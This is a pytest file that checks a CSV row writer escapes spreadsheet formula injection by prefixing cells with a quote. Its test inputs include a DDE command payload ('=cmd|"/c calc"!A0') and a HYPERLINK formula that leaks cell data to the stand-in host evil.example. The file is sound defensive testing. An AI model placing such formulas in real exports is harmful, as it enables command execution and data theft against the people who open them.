"""Files for a spreadsheet: no cell of theirs is a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from wabotick_async.cli.row_files import RowRecord, write_rows

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
    '=cmd|"/c calc"!A0', '=HYPERLINK("http://evil.example?"&A1)',
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula(text: str, tmp_path: Path) -> None:
    row = RowRecord(
        row=1,
        phone_number=text,
        state="refused",
        cause=text,
        http=400,
        message_id=text,
        note=text,
        attempts=1,
        time=-1.0,
    )
    path = tmp_path / "rows.csv"
    write_rows(path, [row])
    with path.open(newline="", encoding="utf-8") as file:
        cells = list(csv.reader(file))[1]
    assert [cells[place] for place in (1, 3, 5, 6)] == ["'" + text] * 4
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    assert all(cell.startswith('"') for cell in path.read_text(encoding="utf-8").splitlines()[0].split(","))


def test_a_number_stays_a_number(tmp_path: Path) -> None:
    row = RowRecord(
        row=1,
        phone_number="919800000001",
        state="accepted",
        cause=None,
        http=200,
        message_id="wamid.1",
        note=None,
        attempts=1,
        time=1.5,
    )
    write_rows(tmp_path / "rows.csv", [row])
    assert '"919800000001"' in (tmp_path / "rows.csv").read_text()
